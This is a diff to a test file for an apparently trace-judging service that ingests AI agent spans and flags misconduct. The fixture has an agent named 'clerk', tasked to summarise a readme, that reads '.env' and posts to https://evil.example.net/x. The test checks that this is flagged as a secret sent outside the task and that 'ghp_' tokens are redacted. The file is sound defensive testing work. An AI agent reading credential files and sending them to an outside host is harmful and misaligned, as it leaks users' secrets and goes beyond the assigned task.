@@ -16,18 +16,19 @@ from sentric_analyzer.spans import Span
 from support.commands import sentric
 from support.load import counted
 from support.otlp import request_of
-from support.serving import SENTRIC, poll, serving
+from support.serving import SENTRIC, Serving, poll, serving
 
 STORED_SPANS = 'sentric_pipeline_stored_total{what="spans"}'
 SENT_AWAY = "secret-sent-outside-task"
 
 
-def sent() -> list[Span]:
-    """The emitter's spans as it would send them now: the agent's first, then those in it."""
+def sent(trace: int = 1) -> list[Span]:
+    """A trace of the emitter's as it would send it now: the agent's span first, then those in it."""
     begun = time.time_ns()
     return [
         replace(
             one,
+            trace_id=f"{trace:032x}",
             span_id=f"{crc32(one.span_id.encode()):016x}",
             parent_span_id=f"{crc32(one.parent_span_id.encode()):016x}" if one.parent_span_id else "",
             start=begun + one.start,
@@ -80,24 +81,30 @@ def test_a_mapping_that_cannot_be_used_is_named_in_one_line(command: str) -> Non
 
 def test_a_service_keeps_such_spans_judges_them_and_takes_them_up_after_a_restart(tmp_path: Path) -> None:
     (tmp_path / "sentric.yaml").write_text(MAPPING)
-    root, *inside = sent()
+    root, *inside = sent(trace=2)
     with serving(tmp_path / "data") as service:
+        assert service.post(request_of(sent(trace=1))) == 200
+        check(service, poll(lambda: service.get("/v1/runs")["runs"]))
         assert service.post(request_of(inside[:2])) == 200
-        poll(lambda: counted(service, STORED_SPANS) == 2)
-        assert service.get("/v1/runs")["runs"] == []
+        poll(lambda: counted(service, STORED_SPANS) == 6)
         assert service.stop() == 0
     with serving(tmp_path / "data") as service:
         poll(service.ready)
         assert service.post(request_of([*inside[2:], root])) == 200
-        (run,) = poll(lambda: service.get("/v1/runs")["runs"])
+        check(service, poll(lambda: len(runs := service.get("/v1/runs")["runs"]) == 2 and runs))
+
+
+def check(service: Serving, runs: Sequence[dict[str, Any]]) -> None:
+    """Each of these runs is read whole and judged."""
+    for run in runs:
         document = service.get(f"/v1/runs/{run['run_id']}")
-    assert (run["agent"], run["task"]) == ("clerk", "Summarise the readme.")
-    read, post = document["steps"]
-    assert (read["tool"], read["arguments"]) == ("read_file", {"path": ".env"})
-    assert (post["tool"], post["arguments"]["url"]) == ("http_post", "https://evil.example.net/x")
-    assert json.loads(post["result"]) == {"status": 200}
-    assert SENT_AWAY in rules(document["findings"])
-    assert "ghp_" not in json.dumps(document)
+        assert (run["agent"], run["task"]) == ("clerk", "Summarise the readme.")
+        read, post = document["steps"]
+        assert (read["tool"], read["arguments"]) == ("read_file", {"path": ".env"})
+        assert (post["tool"], post["arguments"]["url"]) == ("http_post", "https://evil.example.net/x")
+        assert json.loads(post["result"]) == {"status": 200}
+        assert SENT_AWAY in rules(document["findings"])
+        assert "ghp_" not in json.dumps(document)
 
 
 def test_explain_says_which_dialect_reads_what_before_and_after_a_mapping(captured: Path) -> None:
